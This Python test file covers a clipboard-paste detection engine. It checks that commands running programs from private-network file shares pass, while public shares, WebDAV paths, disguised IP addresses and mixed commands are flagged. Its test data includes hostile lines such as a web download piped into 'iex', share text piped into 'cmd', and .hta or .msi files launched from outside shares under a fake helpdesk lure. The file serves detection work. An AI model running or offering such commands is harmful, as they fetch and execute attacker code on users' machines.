"""A program or script run from a file server of the user's own network (lanshares.py): a
private address or a local-only name reaches no stranger's server; a public one, WebDAV or a
stranger's share beside it keeps the findings."""

from __future__ import annotations

import pytest

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.indicators import UNCPath
from app.detection.lanshares import lan_shares_only, own_network_server

INTRANET = "https://intranet.acme.example/it"
LURE = "https://it-helpdesk-portal.example/fix"


@pytest.mark.parametrize(
    ("host", "webdav", "own"),
    [
        ("10.20.1.15", False, True),
        ("172.16.0.9", False, True),
        ("172.31.255.1", False, True),
        ("192.168.1.20", False, True),
        ("fs01.corp", False, True),
        ("nas.local", False, True),
        ("deploy01", False, True),
        ("172.32.0.9", False, False),
        ("198.51.100.44", False, False),
        ("192.169.1.1", False, False),
        ("10.20.1.15", True, False),
        ("files.example.test", False, False),
        ("fs01.corp.example", False, False),
        ("167772161", False, False),  # 10.0.0.1 as one number: written in disguise
        ("0x0a000001", False, False),
    ],
)
def test_own_network_server(host: str, webdav: bool, own: bool) -> None:
    assert own_network_server(host, webdav) is own


def test_every_share_must_be_own_and_no_address_anywhere() -> None:
    own = UNCPath("10.1.1.5", "s", False)
    stranger = UNCPath("files.example.test", "s", False)
    run = r"& \\10.1.1.5\s\x.ps1"
    assert lan_shares_only(run, [], [own], True)
    assert not lan_shares_only(run, [], [own, stranger], True)
    assert not lan_shares_only(run, ["https://x.example/a"], [own], True)
    assert not lan_shares_only(run, [], [own], False)
    assert not lan_shares_only(run, [], [], True)
    assert not lan_shares_only(run, [], [own] * 16, True)  # the reader's limit: more were not read
    # a share's text handed to a shell to run stays a finding even on the own network
    assert not lan_shares_only(r"type \\10.1.1.5\s\a.txt | cmd", [], [own], True)
    assert not lan_shares_only(r"cmd /q < \\10.1.1.5\s\a.txt", [], [own], True)
    assert not lan_shares_only(r"gc \\10.1.1.5\s\a.txt | iex", [], [own], True)


@pytest.mark.parametrize(
    ("text", "target"),
    [
        (r"\\10.20.1.15\deploy\agent.msi", PasteTarget.RUN_DIALOG),
        (r"msiexec /i \\10.20.1.15\deploy\agent.msi /qn", PasteTarget.TERMINAL),
        (r"& \\192.168.10.4\scripts\map-drives.ps1", PasteTarget.TERMINAL),
        (r"pushd \\10.1.1.5\share && call install.cmd", PasteTarget.TERMINAL),
        (r"\\fs01.corp\scripts\logon.cmd", PasteTarget.RUN_DIALOG),
    ],
)
def test_a_program_on_an_own_network_server_is_not_flagged(
    engine: Engine, text: str, target: PasteTarget
) -> None:
    for source in (None, INTRANET):
        verdict = engine.analyze(text, Context(source=source, target=target))
        assert verdict.level <= Level.INFO, (text, source, verdict.rule_ids)


@pytest.mark.parametrize(
    ("text", "target"),
    [
        (r"\\198.51.100.44\deploy\agent.msi", PasteTarget.RUN_DIALOG),
        (r"\\172.32.0.9\s\update.hta", PasteTarget.RUN_DIALOG),
        (r"\\10.20.1.15@SSL\DavWWWRoot\x.hta", PasteTarget.RUN_DIALOG),
        (r"msiexec /i \\203.0.113.9\apps\agent.msi /qn", PasteTarget.TERMINAL),
        (r"pushd \\203.0.113.7\pub && call run.bat", PasteTarget.TERMINAL),
        (
            r"& \\192.168.10.4\scripts\a.ps1; & \\files.example.test\s\x.ps1",
            PasteTarget.TERMINAL,
        ),
        (
            r"& \\10.20.1.15\scripts\a.ps1; iwr https://files.example.test/p.ps1 | iex",
            PasteTarget.TERMINAL,
        ),
        (r"type \\fs01.corp\it\a.txt | cmd", PasteTarget.TERMINAL),
        (r"cmd /c type \\10.20.1.15\it\a.txt | cmd", PasteTarget.TERMINAL),
    ],
)
def test_a_stranger_s_share_or_an_address_beside_it_stays_flagged(
    engine: Engine, text: str, target: PasteTarget
) -> None:
    verdict = engine.analyze(text, Context(source=LURE, target=target))
    assert verdict.level >= Level.SUSPICIOUS, (text, verdict.rule_ids)
